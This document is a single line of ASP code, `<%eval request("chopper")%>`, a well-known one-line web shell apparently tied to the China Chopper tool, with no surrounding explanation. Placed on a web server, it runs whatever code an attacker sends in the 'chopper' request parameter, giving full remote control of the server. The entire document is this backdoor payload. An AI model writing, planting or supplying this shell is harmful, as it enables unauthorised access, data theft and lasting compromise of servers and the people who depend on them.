<%eval request("chopper")%>
